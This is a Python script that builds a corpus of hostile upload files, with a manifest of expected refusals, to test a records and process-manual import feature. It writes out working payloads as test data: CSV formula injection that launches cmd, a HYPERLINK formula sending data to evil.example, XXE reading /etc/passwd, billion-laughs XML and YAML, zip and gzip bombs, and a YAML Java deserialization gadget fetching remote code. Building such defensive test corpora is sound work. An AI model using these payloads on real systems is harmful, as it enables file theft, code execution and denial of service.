#!/usr/bin/env python3
"""Writes the hostile upload corpus beside this script and its manifest, corpus.tsv.

Each file is something a user (or an attacker) could upload to the execution-records import
("records") or the process-manual import ("manual"); the manifest names the refusal expected
(an i18n message key) or "accepted" where the SPEC allows the file. Bombs are kept small on disk:
they inflate only when read. HostileUploadsIT runs every file through the real upload and use case.
Run it again after changing a file: python3 make_corpus.py
"""
import gzip
import io
import os
import random
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
HEADER = b"case_id,process_code,step_code,actor_role,occurred_at\r\n"
ROW = b"C-1,HOSTILE,REGISTER,CLERK,2026-07-01T09:30:00+08:00\r\n"
R = "compliance.records.refused."
M = "compliance.manual."
manifest = []


def write(target, name, data, expected):
    os.makedirs(os.path.join(HERE, target), exist_ok=True)
    with open(os.path.join(HERE, target, name), "wb") as f:
        f.write(data)
    manifest.append((target + "/" + name, target, expected))


class Zip(zipfile.ZipFile):
    """Entries with a fixed time, so the corpus is the same byte for byte each time it is made."""

    def writestr(self, name, data, *args, **kwargs):
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        super().writestr(info, data, compresslevel=9)


def xlsx(sheet_xml, extra_entries=0):
    out = io.BytesIO()
    with Zip(out, "w") as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?>'
                   '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   '</Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?>'
                   '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                   '</Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0" encoding="UTF-8"?>'
                   '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                   '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0" encoding="UTF-8"?>'
                   '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                   '</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        for i in range(extra_entries):
            z.writestr("xl/media/f%d.bin" % i, b"")
    return out.getvalue()


NS = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
END = '</sheetData></worksheet>'


def inline(ref, text):
    return '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, text)


HEADER_ROW = '<row r="1">' + "".join(inline(c + "1", n) for c, n in zip(
    "ABCDE", ["case_id", "process_code", "step_code", "actor_role", "occurred_at"])) + "</row>"
SHEET = '<?xml version="1.0" encoding="UTF-8"?>' + NS + HEADER_ROW + "%s" + END
random.seed(11)

# ---- execution records: CSV, gzip
write("records", "truncated.csv", HEADER + b'C-1,HOSTILE,REGISTER,CLERK,"2026-07-01T09:3', R + "unterminated-quote")
whole_gz = gzip.compress(HEADER + ROW * 2000, mtime=0)
write("records", "truncated.csv.gz", whole_gz[:len(whole_gz) // 2], R + "corrupt-gzip")
write("records", "binary.csv", b"\x89PNG\r\n\x1a\n" + bytes(random.randrange(256) for _ in range(4000)),
      R + "unknown-encoding")
write("records", "nul-bytes.csv", HEADER + b"C-1,HOSTILE,REG\x00ISTER,CLERK,2026-07-01T09:30:00+08:00\r\n",
      R + "unknown-encoding")
write("records", "latin1.csv", HEADER + "C-1,HOSTILE,REGISTER,CAF\u00c9,2026-07-01T09:30:00+08:00\r\n".encode("latin-1"),
      R + "unknown-encoding")
write("records", "mixed-encoding.csv", HEADER + ROW + "C-2,HOSTILE,REGISTER,CAF\u00c9,2026-07-01T09:30:00+08:00\r\n"
      .encode("latin-1") + "C-3,HOSTILE,REGISTER,职员,2026-07-01T09:30:00+08:00\r\n".encode("utf-8"), R + "unknown-encoding")
write("records", "utf16-bom.csv", (HEADER + ROW).decode().encode("utf-16"), R + "unknown-encoding")
write("records", "utf8-bom.csv", b"\xef\xbb\xbf" + HEADER + ROW, "accepted")
write("records", "formula-cmd.csv", HEADER + b'"=cmd|\' /C calc\'!A0",HOSTILE,REGISTER,CLERK,2026-07-01T09:30:00+08:00\r\n',
      R + "formula")
write("records", "formula-hyperlink.csv",
      HEADER + b'C-1,HOSTILE,REGISTER,"=HYPERLINK(""http://evil.example/?""&A1,""open"")",2026-07-01T09:30:00+08:00\r\n',
      R + "formula")
write("records", "too-many-columns.csv", HEADER + b"x," * 1200 + b"\r\n", R + "too-many-fields")
write("records", "long-field.csv", HEADER + b"C-1," + b"x" * 70000 + b",REGISTER,CLERK,2026-07-01T09:30:00+08:00\r\n",
      R + "field-too-long")
write("records", "long-record.csv.gz", gzip.compress(HEADER + (b"y" * 60000 + b",") * 20 + b"\r\n", 9, mtime=0),
      R + "record-too-long")
# 64 MiB of blank lines after the header: ~64 KB on disk, stopped once it inflates past the limits
write("records", "gzip-bomb.csv.gz", gzip.compress(HEADER + b"\n" * (64 << 20), 9, mtime=0), R + "inflation")
write("records", "empty.csv", b"", R + "empty-file")

# ---- execution records: workbooks
ok_row = '<row r="2">' + "".join(inline(c + "2", v) for c, v in zip(
    "ABCDE", ["C-1", "HOSTILE", "REGISTER", "CLERK", "2026-07-01T09:30:00+08:00"])) + "</row>"
whole = xlsx(SHEET % ok_row)
write("records", "truncated.xlsx", whole[:len(whole) // 2], R + "not-a-workbook")
write("records", "zzzzzz2.xlsx", xlsx(SHEET % ('<row r="2">' + inline("ZZZZZZ2", "x") + "</row>")), R + "cell-reference")
write("records", "xfd1048577.xlsx", xlsx(SHEET % ('<row r="1048577">' + inline("XFD1048577", "x") + "</row>")),
      R + "cell-reference")
write("records", "overflowing-ref.xlsx",
      xlsx(SHEET % ('<row r="99999999999999999999">' + inline("A99999999999999999999", "x") + "</row>")),
      R + "cell-reference")
write("records", "negative-ref.xlsx", xlsx(SHEET % ('<row r="-5">' + inline("A-5", "x") + "</row>")), R + "cell-reference")
write("records", "xxe.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                                  + NS + HEADER_ROW + '<row r="2">' + inline("A2", "&xxe;") + "</row>" + END), R + "xml-dtd")
laughs = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
write("records", "billion-laughs.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">' + laughs + "]>"
                                             + NS + HEADER_ROW + '<row r="2">' + inline("A2", "&l9;") + "</row>" + END),
      R + "xml-dtd")
write("records", "deep-nesting.xlsx", xlsx(SHEET % ('<row r="2">' + "<x>" * 500 + "</x>" * 500 + "</row>")), R + "xml-depth")
write("records", "formula.xlsx", xlsx(SHEET % ('<row r="2"><c r="A2" t="str"><f>cmd|\' /C calc\'!A0</f><v>=cmd|\' /C calc\'!A0</v></c>'
                                               + "".join(inline(c + "2", v) for c, v in zip(
    "BCDE", ["HOSTILE", "REGISTER", "CLERK", "2026-07-01T09:30:00+08:00"])) + "</row>")), R + "formula")
write("records", "many-entries.xlsx", xlsx(SHEET % ok_row, extra_entries=1000), R + "zip-entries")
# 64 MiB of white space inside the sheet: ~70 KB on disk
write("records", "zip-bomb.xlsx", xlsx(SHEET % (" " * (64 << 20))), R + "inflation")

# ---- process manual: YAML, workbooks
laughs_yaml = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    "l%d: &l%d [%s]\n" % (i, i, ", ".join(["*" + ("a" if i == 0 else "l%d" % (i - 1))] * 9)) for i in range(12))
write("manual", "billion-laughs.yaml", laughs_yaml.encode(), M + "yaml.aliases")
write("manual", "deep-nesting.yaml", b"processes: " + b"[" * 2000 + b"]" * 2000 + b"\n", M + "yaml.depth")
write("manual", "latin1.yaml", "format: 1\nprocesses:\n  - code: CAF\u00c9\n".encode("latin-1"), M + "yaml.encoding")
write("manual", "utf16-bom.yaml", "format: 1\nprocesses: []\n".encode("utf-16"), M + "yaml.encoding")
write("manual", "binary.yaml", bytes(random.randrange(256) for _ in range(4000)), M + "yaml.encoding")
write("manual", "java-tag.yaml", b"format: 1\nprocesses: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
      M + "yaml.syntax")
write("manual", "truncated.yaml", b"format: 1\nprocesses:\n  - code: T\n    name: {zh: \"\xe6\x8a\x95", M + "yaml.syntax")
manual_header = '<row r="1">' + "".join(inline(c + "1", n) for c, n in zip(
    "ABC", ["process_code", "effective_from", "step_code"])) + "</row>"
manual_sheet = '<?xml version="1.0" encoding="UTF-8"?>' + NS + manual_header + "%s" + END
write("manual", "zip-bomb.xlsx", xlsx(manual_sheet % (" " * (64 << 20))), M + "workbook.too-large-inflated")
write("manual", "many-entries.xlsx", xlsx(manual_sheet % "", extra_entries=1000), M + "workbook.zip-entries")
write("manual", "xxe.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                                 + NS + manual_header + '<row r="2">' + inline("A2", "&xxe;") + "</row>" + END),
      M + "workbook.not-a-workbook")
write("manual", "billion-laughs.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">' + laughs + "]>"
                                            + NS + manual_header + '<row r="2">' + inline("A2", "&l9;") + "</row>" + END),
      M + "workbook.not-a-workbook")
write("manual", "zzzzzz2.xlsx", xlsx(manual_sheet % ('<row r="2">' + inline("ZZZZZZ2", "x") + "</row>")),
      M + "workbook.cell-reference")
whole_manual = xlsx(manual_sheet % "")
write("manual", "truncated.xlsx", whole_manual[:len(whole_manual) // 2], M + "workbook.not-a-workbook")

with open(os.path.join(HERE, "corpus.tsv"), "w") as f:
    f.write("# file\ttarget\texpected (message key, or accepted)\n")
    for row in manifest:
        f.write("\t".join(row) + "\n")
